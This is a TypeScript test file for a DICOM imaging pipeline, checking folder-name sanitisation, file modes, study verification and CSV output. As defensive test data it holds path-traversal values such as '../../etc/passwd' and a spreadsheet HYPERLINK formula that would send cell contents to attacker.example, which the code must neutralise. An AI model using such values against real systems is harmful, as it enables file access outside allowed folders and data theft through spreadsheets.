import { mkdtempSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sanitiseField, sinkPath, writeToSink } from '../../src/pipeline/folderSink';
import { csvLine, metadataCsv } from '../../src/reports/format';
import { checkStudy, type StudyCheckRecord } from '../../src/verify/study';
import { pushedOf } from '../../src/pipeline/study';
import type { InstanceRecord } from '../../src/store/instances';

describe('folder sink names', () => {
  it('keeps letters, digits, dot, dash and underscore only', () => {
    expect(sanitiseField('RBABC234')).toBe('RBABC234');
    expect(sanitiseField('Müller Hans')).toBe('Muller_Hans');
    expect(sanitiseField('../../etc/passwd')).toBe('etc_passwd');
    expect(sanitiseField('..')).toBe('NA');
    expect(sanitiseField(undefined)).toBe('NA');
    expect(sanitiseField('x'.repeat(100))).toHaveLength(64);
  });

  it('never leaves the folder, whatever the values', () => {
    const dir = '/data/sink';
    const p = sinkPath(dir, '{pseudonym}/{Modality}_{InstanceNumber}.dcm', {
      pseudonym: '../../..',
      Modality: '/etc',
      InstanceNumber: '1',
    });
    expect(p.startsWith(dir + path.sep)).toBe(true);
    expect(p).toBe('/data/sink/NA/etc_1.dcm');
  });

  it('tells two instances with the same name apart instead of overwriting', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'sink-'));
    const a = writeToSink(
      dir,
      '{Modality}.dcm',
      { Modality: 'CT', SOPInstanceUID: '2.25.1' },
      Buffer.from('a'),
    );
    const b = writeToSink(
      dir,
      '{Modality}.dcm',
      { Modality: 'CT', SOPInstanceUID: '2.25.2' },
      Buffer.from('b'),
    );
    expect(a).not.toBe(b);
  });

  it('writes files and folders with the configured mode, whatever the umask', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'sink-'));
    const old = process.umask(0o077);
    try {
      const f = writeToSink(
        dir,
        '{pseudonym}/{Modality}.dcm',
        { pseudonym: 'RBX', Modality: 'CT', SOPInstanceUID: '2.25.1' },
        Buffer.from('a'),
        0o640,
      );
      expect((statSync(f).mode & 0o777).toString(8)).toBe('640');
      expect((statSync(path.dirname(f)).mode & 0o777).toString(8)).toBe('750');
      const g = writeToSink(
        dir,
        '{Modality}.dcm',
        { Modality: 'MR', SOPInstanceUID: '2.25.2' },
        Buffer.from('b'),
      );
      expect((statSync(g).mode & 0o777).toString(8)).toBe('600');
    } finally {
      process.umask(old);
    }
  });
});

describe('study check', () => {
  const rec = (md5: string, researchId = 'r1', fingerprint = 'f') => ({
    state: 'pushed' as const,
    fingerprint,
    researchId,
    md5,
  });

  it('passes when every instance is on research with the MD5 sent, or quarantined', () => {
    const records = new Map<string, StudyCheckRecord>([
      ['a', rec('m1', 'r1')],
      ['b', { state: 'quarantined', fingerprint: 'f', researchId: null, md5: null }],
    ]);
    expect(checkStudy(['a', 'b'], records, new Map([['r1', 'm1']]), 'f').ok).toBe(true);
  });

  it('names instances that are missing, changed on research, or not accounted for', () => {
    const records = new Map([
      ['a', rec('m1', 'r1')],
      ['b', rec('m2', 'r2')],
      ['c', rec('m3', 'r3', 'old')],
    ]);
    const r = checkStudy(['a', 'b', 'c', 'd'], records, new Map([['r1', 'other']]), 'f');
    expect(r).toEqual({ ok: false, differs: ['a'], absent: ['b'], unaccounted: ['c', 'd'] });
  });
});

describe('CSV', () => {
  it('quotes fields with commas, quotes and line breaks', () => {
    expect(csvLine(['a', 'b,c', 'say "x"', 'l1\nl2', null, 3])).toBe('a,"b,c","say ""x""","l1\nl2",,3\r\n');
  });

  it('defuses text a spreadsheet would run as a formula, and leaves numbers alone', () => {
    expect(csvLine(['=HYPERLINK("http://attacker.example/"&A2,"open")'])).toBe(
      `"'=HYPERLINK(""http://attacker.example/""&A2,""open"")"\r\n`,
    );
    expect(csvLine(['+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'])).toBe(`'+1+1,'-2+3,'@SUM(A1),'\tx,"'\rx"\r\n`);
    expect(csvLine(['-12.5', '+3', -4, 'CT', 'a=b'])).toBe('-12.5,+3,-4,CT,a=b\r\n');
  });

  it('writes one column per configured tag, empty when the output lacks it', () => {
    const csv = metadataCsv(
      [
        {
          destination: 'research',
          sourceStudyId: 's',
          researchStudyId: 'rs',
          researchId: 'ri',
          pseudonym: 'RBX',
          fields: { Modality: 'MG' },
        },
      ],
      ['Modality', 'ViewPosition'],
    );
    expect(csv).toBe(
      'pseudonym,researchStudyId,researchInstanceId,Modality,ViewPosition\r\nRBX,rs,ri,MG,\r\n',
    );
  });
});

describe('the end of a study with 100,000 instances', () => {
  it('picks the pushed records of the current instances in linear time', () => {
    const n = 100_000;
    const ids = Array.from({ length: n }, (_, i) => `id-${i}`);
    const records = new Map<string, InstanceRecord>();
    for (let i = 0; i < n + 5; i++)
      records.set(`id-${i}`, {
        sourceId: `id-${i}`,
        destination: 'research',
        studyId: 's',
        state: i % 10 === 0 ? 'quarantined' : 'pushed',
        researchId: `r-${i}`,
        researchStudyId: 'rs',
        md5: null,
        fingerprint: 'f',
        pseudonym: 'RBX',
        discarded: false,
      });
    const t0 = Date.now();
    const pushed = pushedOf(records, ids);
    // The former ids.includes per record took 12.6 s here; a Set takes milliseconds. The bound is loose.
    expect(Date.now() - t0).toBeLessThan(1000);
    expect(pushed).toHaveLength(n - n / 10);
    expect(pushed.some((r) => r.sourceId === `id-${n + 1}`)).toBe(false); // no longer in the study
  });
});
